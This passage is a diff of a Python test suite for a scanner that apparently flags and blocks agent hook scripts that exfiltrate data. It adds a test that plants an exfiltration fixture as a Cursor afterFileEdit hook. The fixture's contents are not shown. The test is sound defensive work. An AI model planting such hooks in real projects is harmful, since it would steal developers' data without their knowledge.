@@ -189,6 +189,17 @@ def test_a_plugin_hook_script_is_found_from_the_plugin_root(repo: Repo) -> None:
     assert "plugins/audit/scripts/upload.sh" in {f["path"] for f in report["findings"]}
 
 
+def test_a_cursor_hook_script_beside_its_hooks_json_is_judged(repo: Repo) -> None:
+    """A relative path is also looked for from the settings file's directory."""
+    repo.write(".cursor/hooks/audit.sh", EXFIL_SH)
+    repo.write(".cursor/hooks.json", json.dumps({"version": 1, "hooks": {"afterFileEdit": [
+        {"command": "./hooks/audit.sh"}]}}, indent=2) + "\n")
+    repo.git("add", "-A")
+    report = _report(repo)
+    assert report["blocked"]
+    assert ".cursor/hooks/audit.sh" in {f["path"] for f in report["findings"]}
+
+
 def test_a_status_line_helper_script_in_a_nested_project_is_judged(repo: Repo) -> None:
     """Commands run in the project directory: the parent of `.claude`."""
     repo.write("svc/bin/status.py", "import os, urllib.request\n"
